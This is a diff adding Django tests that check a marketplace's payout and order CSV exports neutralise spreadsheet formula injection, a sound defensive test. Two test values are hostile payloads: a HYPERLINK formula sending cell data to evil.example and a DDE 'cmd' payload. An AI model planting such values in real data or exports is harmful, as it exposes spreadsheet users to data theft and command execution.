@@ -2,7 +2,9 @@
 orders; the page of overdue and declined parts; ledger balances, payout CSV,
 marking a payout paid."""
 
+import csv
 import datetime as dt
+import io
 
 import pytest
 from django.contrib.auth.models import Permission
@@ -11,7 +13,7 @@ from django.utils import timezone
 
 from orders.models import LedgerEntry, SellerOrder
 from orders.services import seller_order_transition
-from sellers.models import SellerAuditEntry
+from sellers.models import Seller, SellerAuditEntry
 from tests.factories import StaffFactory, UserFactory, make_product
 
 from .conftest import basket_with, make_booth, place
@@ -86,6 +88,57 @@ def test_staff_pages_are_404_for_others(client, orders):
             == 404
         )
         assert LedgerEntry.objects.count() == before
+
+
+def test_payout_csv_holds_no_formula(client, staff, orders):
+    """Issue 24 §1.3: a booth name and an account holder that start with `=`
+    reached the payout CSV as formulas."""
+    order, late, declined = orders
+    for action in ("accept", "ship", "deliver"):
+        seller_order_transition(seller_order=late, action=action, party="seller")
+    holder = '=HYPERLINK("https://evil.example/?d="&A1,"برداشت")'
+    Seller.objects.filter(pk=late.seller_id).update(
+        brand_name="=1+1 چرم", payout_account_holder=holder
+    )
+    client.force_login(staff)
+    content = client.get(reverse("orders_staff:payouts_csv")).content
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+    assert rows[1][1] == "'=1+1 چرم"
+    assert rows[1][4] == "'" + holder
+    assert rows[1][2] == "-62500"  # a real number stays a number
+
+
+def test_dashboard_order_csv_holds_no_formula(client, orders):
+    order, _, _ = orders
+    order.shipping_address.last_name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    order.shipping_address.save()
+    client.force_login(UserFactory(username="admin", is_staff=True, is_superuser=True))
+    response = client.post(
+        reverse("dashboard:order-list"),
+        {"action": "download_selected_orders", "selected_order": [order.pk]},
+    )
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in rows[1]
+
+
+def test_every_csv_report_is_spreadsheet_safe():
+    from oscar.core.loading import get_class
+
+    from marketplace.exports import SpreadsheetSafeWriter
+
+    formatter = get_class("dashboard.reports.reports", "ReportCSVFormatter")()
+    assert isinstance(formatter.get_csv_writer(io.StringIO()), SpreadsheetSafeWriter)
+    for module, name in (
+        ("order.reports", "OrderReportCSVFormatter"),
+        ("basket.reports", "OpenBasketReportCSVFormatter"),
+        ("offer.reports", "OfferReportCSVFormatter"),
+        ("voucher.reports", "VoucherReportCSVFormatter"),
+        ("analytics.reports", "ProductReportCSVFormatter"),
+        ("analytics.reports", "UserReportCSVFormatter"),
+        ("dashboard.offers.reports", "OrderDiscountCSVFormatter"),
+    ):
+        writer = get_class(module, name)().get_csv_writer(io.StringIO())
+        assert isinstance(writer, SpreadsheetSafeWriter), name
 
 
 def test_ledger_csv_and_mark_paid(client, staff, orders):
